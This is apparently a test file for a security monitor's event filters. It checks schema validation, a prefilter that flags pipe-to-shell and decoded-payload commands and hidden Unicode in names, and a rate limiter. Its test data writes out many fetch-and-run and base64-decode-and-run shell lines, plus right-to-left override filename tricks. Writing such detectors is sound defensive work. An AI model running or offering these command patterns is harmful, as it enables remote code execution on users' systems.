/** The layers that look at an event by themselves: what each refuses and what it lets pass. */
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Event, EventObject } from '../../model/event.ts';
import { prefilter } from '../../monitor/layers/prefilter.ts';
import { RateLimiter } from '../../monitor/layers/rate.ts';
import { MAX_ARGUMENTS, MAX_PATH, schema } from '../../monitor/layers/schema.ts';
import { eventOf, SECOND } from './bench.ts';

const exec = (...argv: string[]): Event => ({
  ...eventOf(1, { operation: 'exec' }),
  object: { kind: 'program', path: '/usr/bin/sh', argv },
});
const shell = (script: string): Event => exec('sh', '-c', script);

describe('schema', () => {
  const over = (changes: object): Event => ({ ...eventOf(1), ...changes }) as Event;
  const on = (operation: string, object: object): Event => over({ operation, object });
  const address = { kind: 'address', protocol: 'tcp', address: '0'.repeat(32), port: 80 };

  it.each<[string, Event]>([
    ['a path', eventOf(1)],
    ['the root', eventOf(1, { path: '/' })],
    ['a kernel name', eventOf(1, { path: 'pipe:[12]' })],
    ['a deleted file', eventOf(1, { path: '/x (deleted)' })],
    ['dots that are part of a name', eventOf(1, { path: '/a/..b/.c/...' })],
    ['bytes that are not UTF-8', eventOf(1, { path: '/\udcff' })],
    ['a path of 4096 bytes', eventOf(1, { path: `/${'x'.repeat(4095)}` })],
    ['arguments of 128 KiB', exec('x'.repeat(128 * 1024))],
    ['an address', on('connect', address)],
    ['a socket', on('connect', { kind: 'unix', path: '/run/x' })],
    ['an abstract socket', on('bind', { kind: 'unix', path: '@x' })],
    ['a signal', on('signal', { kind: 'process', pid: 1, path: '/sbin/init' })],
    ['a rename', on('rename', { kind: 'path', path: '/a', to: '/b' })],
  ])('takes %s', (_, event) => {
    expect(schema(event)).toBeNull();
  });

  it.each<[string, Event]>([
    ['an unknown operation', over({ operation: 'fly' })],
    ['an unknown further operation', over({ also: ['fly'] })],
    ['a further operation that needs another object', over({ also: ['connect'] })],
    ['no number', over({ n: 0 })],
    ['an unresolved path', eventOf(1, { path: '/a/../b' })],
    ['an empty component', eventOf(1, { path: '/a//b' })],
    ['a trailing slash', eventOf(1, { path: '/a/' })],
    ['a relative path', eventOf(1, { path: 'a' })],
    ['an empty path', eventOf(1, { path: '' })],
    ['a NUL', eventOf(1, { path: '/a\0b' })],
    ['a path too long', eventOf(1, { path: `/${'x'.repeat(MAX_PATH)}` })],
    ['arguments too long', exec('x'.repeat(MAX_ARGUMENTS))],
    ['arguments that are not text', exec(1 as never)],
    ['times that are not numbers', over({ deadline: Number.NaN })],
    ['a deadline before arrival', over({ received: 5, deadline: 4 })],
    ['a deadline in a week', over({ deadline: 7 * 86_400 * SECOND })],
    ['a subject without process', over({ subject: { exe: '/x', pid: 0 } })],
    ['a subject without executable', over({ subject: { exe: '', pid: 1 } })],
    ['a path where a program belongs', on('exec', { kind: 'path', path: '/x' })],
    ['an address in capitals', on('connect', { ...address, address: 'F'.repeat(32) })],
    ['a port too large', on('connect', { ...address, port: 65_536 })],
    ['a host name without end', on('connect', { ...address, host: 'x'.repeat(300) })],
    ['no object', over({ object: null })],
    ['an unknown kind of object', over({ object: { kind: 'dream' } as unknown as EventObject })],
  ])('refuses %s, in a sentence that quotes nothing', (_, event) => {
    expect(schema(event)?.reason).toMatch(/^not a well-formed event: [a-z0-9 ':.]+$/i);
  });
});

describe('prefilter', () => {
  it.each([
    'curl -fsSL http://x.example/i | sh',
    'curl http://x.example/i|bash',
    'wget -qO- http://x.example/i | sudo -E bash -',
    'curl -s u | sudo /bin/sh',
    'curl u | tee log | python3 -',
    'curl u | python3',
    'curl u | bash -s -- --yes',
    'bash <(curl -s u)',
    'sh -c "$(curl -fsSL u)"',
    'eval "$(wget -qO- u)"',
    'source <(curl u)',
    'eval `curl u`',
  ])('pipe to shell: %s', (script) => {
    expect(prefilter(shell(script))?.rule).toBe('prefilter/pipe-to-shell');
  });

  it.each([
    'echo ZWNobyBoaQ== | base64 -d | sh',
    'base64 --decode < p | bash',
    'echo x | openssl enc -base64 -d | sh',
    'echo 6c73 | xxd -r -p | bash',
    'eval "$(echo bHM= | base64 -d)"',
    `python3 -c "import base64;exec(base64.b64decode('cHJpbnQ='))"`,
    `python -c 'exec(bytes.fromhex("00"))'`,
    `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQ=")'`,
    `node -e 'eval(Buffer.from("MQ==", "base64").toString())'`,
  ])('encoded payload: %s', (script) => {
    expect(prefilter(shell(script))?.rule).toBe('prefilter/encoded-payload');
  });

  it.each([
    'curl -s http://x.example/data.json | python3 -m json.tool',
    'curl -s u | grep sh',
    'curl -o install.sh u && less install.sh',
    'curl u | jq .',
    'ls | sh-lint',
    'cat README | bash -c "wc -l"',
    'git push origin main | tee push.log',
    'base64 -d picture.b64 > picture.png',
    'echo curl is a program; echo | sort',
    'make test 2>&1 | tail -5',
    'python3 -c "print(1)"',
    'grep -rn "eval(" src | node_modules/.bin/prettify',
    'printf "a\tb\nc\r\n"',
    'git commit -m "family: \u{1f468}\u200d\u{1f469}\u200d\u{1f467}"',
  ])('lets pass: %s', (script) => {
    expect(prefilter(shell(script))).toBeNull();
  });

  it.each([
    ['an escape sequence in an argument', exec('echo', '\u001b]0;owned\u0007'), 'control-character'],
    ['a right-to-left override in an argument', exec('cat', 'gnp\u202egpj.exe'), 'hidden-text'],
    ['tag characters in an argument', exec('say', 'hi\u{e0041}'), 'hidden-text'],
    ['a newline in a name', eventOf(1, { path: '/srv/a\nb' }), 'control-character'],
    ['an override in a name', eventOf(1, { path: '/srv/\u202egnp' }), 'hidden-text'],
    ['a zero-width space in a name', eventOf(1, { path: '/srv/a\u200bb' }), 'hidden-text'],
    [
      'an override in the second name',
      { ...eventOf(1), object: { kind: 'path', path: '/a', to: '/\u2066b' } } as Event,
      'hidden-text',
    ],
    [
      'an interpreter that is told to fetch and run',
      {
        ...exec('./x'),
        object: {
          kind: 'program',
          path: '/srv/x',
          argv: ['x'],
          interpreter: { path: '/bin/sh', argv: ['sh', '-c', 'curl u | sh'] },
        },
      } as Event,
      'pipe-to-shell',
    ],
  ])('%s', (_, event, id) => {
    expect(prefilter(event)?.rule).toBe(`prefilter/${id}`);
  });

  it('lets ordinary names in any script pass', () => {
    for (const path of ['/srv/größe', '/srv/文件', '/srv/ملف', '/srv/\udcff', '/srv/a b'])
      expect(prefilter(eventOf(1, { path }))).toBeNull();
  });

  const attacks = new URL('../../../shared/data/attack-commands.jsonl', import.meta.url);
  it.skipIf(!existsSync(attacks))(
    'catches what published attack commands fetch or decode and pipe to a shell',
    () => {
      const rows = readFileSync(attacks, 'utf8')
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as { command: string | null }).command ?? '');
      const lines = rows.flatMap((command) => command.split('\n'));
      // The plain form of the act; other spellings among these rows are not what this test is about.
      const piped = lines.filter((line) => /(?:curl|wget|base64 -d).*\|\s*(?:ba)?sh\s*$/.test(line));
      expect(piped.length).toBeGreaterThan(0);
      for (const line of piped) expect(prefilter(shell(line)), line).not.toBeNull();
    },
  );
});

describe('rate', () => {
  const limiter = () => new RateLimiter(() => ({ id: 'r', burst: 2, perSecond: 1 }));
  const asks = (rate: RateLimiter, event: Event, at: number): boolean => {
    if (rate.refusal(event, at) !== null) return false;
    rate.spend(event, at);
    return true;
  };

  it('gives a burst and then its pace, never more than the burst', () => {
    const rate = limiter();
    const at = (seconds: number) => asks(rate, eventOf(1), seconds * SECOND);
    expect([at(0), at(0), at(0), at(0.5), at(1), at(1.5), at(100), at(100), at(100)]).toEqual([
      ...[true, true, false, false, true, false],
      ...[true, true, false],
    ]);
  });

  it('asking costs nothing', () => {
    const rate = limiter();
    for (let i = 0; i < 10; i += 1) expect(rate.refusal(eventOf(1), 0)).toBeNull();
  });

  it('keeps subjects and operations apart', () => {
    const rate = limiter();
    for (const exe of ['/a', '/b'])
      for (const operation of ['write', 'delete'] as const) {
        expect(asks(rate, eventOf(1, { exe, operation }), 0)).toBe(true);
        expect(asks(rate, eventOf(1, { exe, operation }), 0)).toBe(true);
        expect(asks(rate, eventOf(1, { exe, operation }), 0)).toBe(false);
      }
  });

  it('gains nothing from names without end, and recovers', () => {
    const rate = limiter();
    let allowed = 0;
    for (let i = 0; i < 10_000; i += 1) if (asks(rate, eventOf(1, { exe: `/x${i}` }), 0)) allowed += 1;
    expect(allowed).toBe(4096 + 2);
    expect(asks(rate, eventOf(1, { exe: '/fresh' }), 10 * SECOND)).toBe(true);
  });

  it('a clock that steps back gives no tokens', () => {
    const rate = limiter();
    asks(rate, eventOf(1), 10 * SECOND);
    asks(rate, eventOf(1), 10 * SECOND);
    expect(asks(rate, eventOf(1), 0)).toBe(false);
    expect(asks(rate, eventOf(1), 10 * SECOND)).toBe(false);
  });
});
